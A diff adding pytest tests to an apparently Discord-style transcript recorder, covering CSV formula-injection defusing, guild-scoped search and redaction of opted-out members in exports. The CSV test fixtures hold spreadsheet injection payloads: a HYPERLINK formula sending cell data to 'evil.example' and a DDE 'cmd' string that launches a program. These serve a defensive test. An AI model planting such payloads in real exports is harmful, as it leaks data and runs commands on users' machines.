@@ -252,3 +252,64 @@ async def test_a_message_queued_for_a_purged_transcript_does_not_poison_the_batc
     recorder.add_message(replace(msg(2), channel_id=501))
     assert await recorder.flush() == 2
     assert await scalar(db, "SELECT channel_id FROM recorded_messages") == 501
+
+
+async def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(
+    db, settings, tmp_path
+):
+    await start(db)
+    recorder = Recorder(db)
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    recorder.add_message(
+        replace(
+            msg(1, formula, author=3),
+            author_name="+cmd|' /C calc'!A0",
+            attachments=(store.Attachment("@SUM(1+1).png", 10, None),),
+            embed_titles=("-2+3",),
+        )
+    )
+    recorder.add_message(msg(2, "a plain sentence"))
+    await recorder.flush()
+    (path,) = export_transcript(settings.database, CHANNEL, "csv", tmp_path)
+    rows = [r for r in csv.DictReader(io.StringIO(path.read_text())) if r["kind"] == "message"]
+    risky = rows[0]
+    for column in ("content", "author_name", "attachments", "embeds"):
+        assert risky[column][0] not in "=+-@\t\r", column
+    assert risky["content"] == "'" + formula  # the text is kept, only defused
+    assert rows[1]["content"] == "a plain sentence"
+
+
+async def test_search_scopes_before_ranking_so_other_guilds_cannot_crowd_out_results(db):
+    await start(db)
+    await store.start_recording(
+        db,
+        channel_id=700,
+        guild_id=8,
+        name="another server",
+        parent_id=None,
+        reason="manual",
+        started_by=1,
+        now=T0,
+    )
+    recorder = Recorder(db)
+    for i in range(600):  # short, so they rank above ours
+        recorder.add_message(replace(msg(i, "letters letters"), channel_id=700, guild_id=8))
+    recorder.add_message(msg(900, "Theodore writes letters for other people, for a living"))
+    await recorder.flush()
+    hits = await search(db, 9, "letters")
+    assert [h.channel_id for h in hits] == [CHANNEL]
+    assert len(await search(db, 9, "letters", channel_id=CHANNEL, author_id=1)) == 1
+
+
+@pytest.mark.parametrize("fmt", FORMATS)
+async def test_exports_do_not_name_a_member_who_opted_out(db, settings, tmp_path, fmt):
+    await start(db)
+    recorder = Recorder(db)
+    recorder.add_message(replace(msg(1, "mine, later redacted", author=777001), author_name="Zoe"))
+    recorder.add_message(msg(2, "someone else"))
+    await recorder.flush()
+    await store.redact_author(db, 777001)
+    (path,) = export_transcript(settings.database, CHANNEL, fmt, tmp_path)
+    text = path.read_text()
+    assert "777001" not in text and "Zoe" not in text and "later redacted" not in text
+    assert "someone else" in text
